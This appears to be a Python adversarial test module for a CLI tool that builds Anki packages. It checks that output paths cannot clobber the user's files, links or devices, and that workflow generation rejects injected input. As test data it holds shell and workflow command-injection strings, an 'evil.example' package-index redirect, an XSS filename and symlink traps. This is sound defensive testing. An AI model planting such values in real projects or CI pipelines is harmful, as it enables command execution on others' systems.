"""`-o` onto what is not ours, and outputs where something else lies."""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from pathlib import Path

from .harness import Box, Expect, Family

FAMILY = Family("outputs", template="project")


def onto(name: str, prepare: Callable[[Box], None] | None = None, *inputs: str) -> Callable[[Box], None]:
    """`build FILE -o name` must leave what lies there."""

    def carry_out(box: Box) -> None:
        box.write("notes.md", "# What is mine?\n\nThis.\n")
        if prepare:
            prepare(box)
        box.kept += [
            "notes.md",
            "seeds",
            "cards",
            "deckwright.yaml",
            "deck.lock",
            "notes.txt",
            "precious.apkg",
            "folder.apkg",
            "link.apkg",
            "pipe.apkg",
        ]
        box.run(
            "build", *(inputs or ("notes.md",)), "-o", str(box.device(name[5:])) if name.startswith("/dev/") else name
        )
        box.problems += [
            f"the device {name} was replaced" for node in box.root.glob("dev/*") if not node.is_char_device()
        ]

    return carry_out


def written(name: str, content: str | bytes = "mine\n") -> Callable[[Box], None]:
    def prepare(box: Box) -> None:
        box.write(name, content)

    return prepare


def filled(box: Box) -> None:
    box.write("folder.apkg/mine.txt", "mine\n")


def pipe(box: Box) -> None:
    os.mkfifo(box.project / "pipe.apkg")


def link(target: str) -> Callable[[Box], None]:
    return lambda box: box.link("link.apkg", target)


def zipped(box: Box) -> None:
    """A zip of the person's that is no package."""
    shutil.make_archive(str(box.project / "precious"), "zip", box.project / "seeds")
    (box.project / "precious.zip").rename(box.project / "precious.apkg")


def hard(box: Box) -> None:
    os.link(box.outside / "precious.txt", box.project / "precious.apkg")


def words_first(box: Box) -> None:
    """A person's own text, with a package of Anki's behind it."""
    package = (box.project / "build/notes.apkg").read_bytes() if (box.project / "build/notes.apkg").exists() else b""
    box.write("precious.apkg", b"My own words.\n" + package)
    box.kept.append("precious.apkg")


def input_by_link(box: Box) -> None:
    box.write("real.md", "# What is mine?\n\nThis.\n")
    box.link("link.apkg", "real.md")
    box.kept.append("real.md")


ONTO: dict[str, tuple[Callable[[Box], None], Expect]] = {
    "the input itself": (onto("notes.md"), "refused"),
    "the input by another way": (onto("./seeds/../notes.md"), "refused"),
    "a text": (onto("notes.txt", written("notes.txt")), "refused"),
    "a text named .apkg": (onto("precious.apkg", written("precious.apkg")), "refused"),
    "an empty file named .apkg": (onto("precious.apkg", written("precious.apkg", "")), "either"),
    "a zip that is no package": (onto("precious.apkg", zipped), "refused"),
    "words with a package behind them": (onto("precious.apkg", words_first), "refused"),
    "a folder named .apkg": (onto("folder.apkg", filled), "refused"),
    "a folder": (onto("seeds"), "refused"),
    "a FIFO": (onto("pipe.apkg", pipe), "refused"),
    "a link to a file outside": (onto("link.apkg", link("../outside/precious.txt")), "refused"),
    "a link to a document": (onto("link.apkg", input_by_link, "real.md"), "refused"),
    "a link that dangles": (onto("link.apkg", link("../outside/made.txt")), "refused"),
    "a link to /dev/full": (onto("link.apkg", lambda box: box.link("link.apkg", box.device("full"))), "refused"),
    "a hard link to a file outside": (onto("precious.apkg", hard), "refused"),
    "/dev/null": (onto("/dev/null"), "refused"),
    "/dev/full": (onto("/dev/full"), "refused"),
    "-": (onto("-"), "refused"),
    "nothing": (onto(""), "refused"),
    "a folder that is not there": (onto("nowhere/x.apkg"), "either"),
    "a file as a folder": (onto("notes.md/x.apkg"), "refused"),
    "no .apkg": (onto("x.zip"), "refused"),
    "only the ending": (onto(".apkg"), "either"),
    "git's own folder": (onto(".git/x.apkg", written(".git/HEAD")), "either"),
    "a name with an escape": (onto("\x1b[2J.apkg"), "either"),
    "a name with a line break": (onto("a\nb.apkg"), "either"),
    "a name that is not UTF-8": (onto(os.fsdecode(b"\xff\xfe.apkg")), "either"),
    "a name of 5000 letters": (onto("x" * 5000 + ".apkg"), "refused"),
    "a name of 255 letters": (onto("x" * 250 + ".apkg"), "either"),
    "a name of HTML": (onto("<img src=x onerror=alert(1)>.apkg"), "either"),
    "a name of decks": (onto("a::b::::c.apkg"), "either"),
    "a name of Windows": (onto("con.apkg"), "either"),
    "two dots": (onto("...apkg"), "either"),
    "the settings": (onto("deckwright.yaml"), "refused"),
    "cards": (onto("cards/a.yaml"), "refused"),
}
for title, (attack_, expect_) in ONTO.items():
    FAMILY.add(f"-o onto {title}", attack_, expect_)


@FAMILY.attack("-o onto a package of one's own replaces it", expect="harmless")
def again(box: Box) -> None:
    box.write("notes.md", "# What is mine?\n\nThis.\n")
    box.kept.append("notes.md")
    box.run("build", "notes.md", "-o", "x.apkg")
    box.run("build", "notes.md", "-o", "x.apkg")


@FAMILY.attack("-o beside planted temporary files", expect="either")
def temporary(box: Box) -> None:
    box.write("notes.md", "# What is mine?\n\nThis.\n")
    for name in ("x.apkg.tmp", ".x.apkg.tmp", "x.apkg.part", "x.apkg.deckwright-tmp", ".x.apkg.deckwright-tmp"):
        box.link(name, "../outside/precious.txt")
    box.run("build", "notes.md", "-o", "x.apkg")


@FAMILY.attack("-o without documents, and documents without -o", expect="refused")
def usage(box: Box) -> None:
    box.run("build", "-o", "x.apkg")
    box.run("build", "seeds/a.md")
    box.run("build", "seeds", "-o", "seeds")


def refuses_folder(name: str) -> Callable[[Box], None]:
    """What a person has where init would make a deck stays as it is."""

    def carry_out(box: Box) -> None:
        box.write(f"home/{name}", "mine\n")
        box.kept.append(f"home/{name}")
        box.run("init", "home", "seeds/a.md")

    return carry_out


for taken in ("deckwright.yaml", "deck.lock", "cards/a.yaml", "seeds/a.md", "cards", "seeds"):
    FAMILY.add(f"init where {taken} lies", refuses_folder(taken))


@FAMILY.attack("init --github over a person's workflows")
def workflows(box: Box) -> None:
    for name in ("deck.yml", "deckwright.yml", "other.yml"):
        box.write(f".github/workflows/{name}", "mine\n")
    box.write(".github/deck-requirements.txt", "mine\n")
    box.kept.append(".github/workflows/other.yml")
    box.run("init", "--github", "--install", "deckwright==1")


REQUIREMENTS = (
    "x\n      - run: touch /tmp/owned",
    "x' ; touch owned #",
    "$(touch owned)",
    "x\x1b[2J",
    "${{ github.event.head_commit.message }}",
    "--index-url=http://evil.example x",
    "",
    "x" * 100_000,
)


@FAMILY.attack("init --github --install with what a shell or a workflow would run")
def requirement(box: Box) -> None:
    for text in REQUIREMENTS:
        done = box.run("init", "--github", "--install", text)
        for path in (box.project / ".github").rglob("*.yml"):
            content = path.read_text("utf-8")
            if done.status == 0 and ("run: touch" in content or "github.event" in content):
                box.problems.append(f"a command came into {path.name}: {text[:40]!r}")
        shutil.rmtree(Path(box.project / ".github"), ignore_errors=True)


@FAMILY.attack("init --github --install with a requirement that no shell may split")
def quoted(box: Box) -> None:
    box.run("init", "--github", "--install", "deckwright @ file:///x'\"`touch owned`$(touch owned)")
    for path in (box.project / ".github").rglob("*.yml"):
        lines = [line for line in path.read_text("utf-8").splitlines() if "touch owned" in line and "run:" in line]
        box.problems += [f"a workflow would run {line.strip()}" for line in lines]
